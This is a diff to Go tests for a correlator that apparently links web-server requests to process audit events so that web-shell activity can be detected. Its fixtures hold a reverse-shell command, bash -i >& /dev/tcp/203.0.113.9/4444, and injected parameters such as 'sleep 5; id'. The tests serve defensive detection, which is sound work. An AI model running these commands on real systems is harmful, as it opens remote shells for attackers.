@@ -1,6 +1,8 @@
 package correlate
 
 import (
+	"fmt"
+	"slices"
 	"testing"
 	"time"
 )
@@ -192,7 +194,7 @@ func TestEndStampedRequests(t *testing.T) {
 			Process{Ref: 10, Time: t0, ID: "a", Shell: "a", CommandLine: `cmd.exe /c ping -n 5 127.0.0.1`}, false},
 		{"nginx, time alone", Request{Ref: 1, Time: logged, Path: "/up/x.php", Script: true, Server: "nginx"}, slow, false},
 		{"apache, the command in a parameter", Request{Ref: 1, Time: logged, Path: "/up/x.php", Params: []string{"sleep 5; id"}, Script: true, Server: "apache"}, slow, false},
-		{"nginx, beyond the reorder window", Request{Ref: 1, Time: t0.Add(45 * time.Second), Path: "/up/x.php", Params: []string{"sleep 5; id"}, Script: true, Server: "nginx"}, slow, false},
+		{"nginx, past LongRequest", Request{Ref: 1, Time: t0.Add(6 * time.Minute), Path: "/up/x.php", Params: []string{"sleep 5; id"}, Script: true, Server: "nginx"}, slow, false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			// Process first, as the audit stream delivers it.
@@ -212,5 +214,79 @@ func TestEndStampedRequests(t *testing.T) {
 				t.Errorf("request first: %+v %v, want a link %v", l, ok, tc.link)
 			}
 		})
+	}
+}
+
+// A reverse shell runs for minutes, and its request is logged when it
+// ends: by nginx at the end's time, by Apache at its start's time but
+// written then. Once Reorder has passed, the shell is linked only by a
+// parameter that is its exact command, for up to LongRequest.
+func TestLongRunningShell(t *testing.T) {
+	const cmd = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
+	shell := Process{Ref: 10, Time: t0, ID: "a", Shell: "a", CommandLine: "sh -c " + cmd, WebNames: []string{"php-fpm8.2"}}
+	other := func(at time.Time) Process { // the host's other activity moves event time on
+		return Process{Ref: 99, Time: at, ID: "z", Shell: "z", CommandLine: "sh -c uptime"}
+	}
+	for _, tc := range []struct {
+		name  string
+		r     Request
+		quiet bool // no other event between the shell and its request
+		link  bool
+	}{
+		{"nginx, after a minute", Request{Ref: 1, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"}, false, true},
+		{"nginx, on a quiet host", Request{Ref: 1, Time: t0.Add(45 * time.Second), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"}, true, true},
+		{"apache, written a minute later", Request{Ref: 1, Time: t0, Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "apache"}, false, true},
+		{"nginx, past LongRequest", Request{Ref: 1, Time: t0.Add(6 * time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"}, false, false},
+		{"nginx, a parameter in the command only", Request{Ref: 1, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{"/dev/tcp/203.0.113.9/4444"}, Script: true, Server: "nginx"}, false, false},
+		{"apache, a request that arrived later", Request{Ref: 1, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "apache"}, false, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			c := New(Options{})
+			if _, ok := c.AddProcess("h", shell); ok {
+				t.Fatal("linked with no request")
+			}
+			if !tc.quiet {
+				c.AddProcess("h", other(tc.r.Time.Add(-time.Second)))
+				c.AddProcess("h", other(t0.Add(time.Minute)))
+			}
+			links := c.AddRequest("h", tc.r)
+			got := len(links) == 1 && links[0].Process == shell.Ref
+			if got != tc.link {
+				t.Fatalf("links %+v, want a link %v", links, tc.link)
+			}
+			if got && !slices.Contains(links[0].Evidence, "param_in_command_line") {
+				t.Errorf("evidence %v", links[0].Evidence)
+			}
+			// One request starts one shell: the same command again links
+			// nothing more, and the shell's children follow its request.
+			if got {
+				if again := c.AddRequest("h", Request{Ref: 2, Time: tc.r.Time, Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: tc.r.Server}); len(again) != 0 {
+					t.Errorf("a second request took the shell: %+v", again)
+				}
+				if l, ok := c.AddProcess("h", Process{Ref: 11, Time: t0.Add(2 * time.Second), ID: "b", Shell: "a", CommandLine: "id"}); !ok || l.Request != tc.r.Ref {
+					t.Errorf("the shell's child: %+v %v", l, ok)
+				}
+			}
+		})
+	}
+}
+
+func TestLongShellsBounded(t *testing.T) {
+	c := New(Options{MaxPending: 50})
+	for i := range 200 {
+		c.AddProcess("h", Process{Ref: int64(i), Time: t0.Add(time.Duration(i) * time.Millisecond), ID: fmt.Sprint(i), Shell: fmt.Sprint(i), CommandLine: fmt.Sprintf("sh -c sleep %d", i)})
+	}
+	c.AddProcess("h", Process{Ref: 999, Time: t0.Add(time.Minute), ID: "z", Shell: "z", CommandLine: "sh -c uptime"})
+	h := c.hosts["h"]
+	n := 0
+	for _, ps := range h.long {
+		n += len(ps)
+	}
+	if n != h.longCount || n > 50 {
+		t.Errorf("%d long shells (count %d), bound 50", n, h.longCount)
+	}
+	c.AddProcess("h", Process{Ref: 1000, Time: t0.Add(10 * time.Minute), ID: "y", Shell: "y", CommandLine: "sh -c uptime"})
+	if len(h.long) != 0 || h.longCount != 0 {
+		t.Errorf("%d long shells (count %d) after LongRequest", len(h.long), h.longCount)
 	}
 }
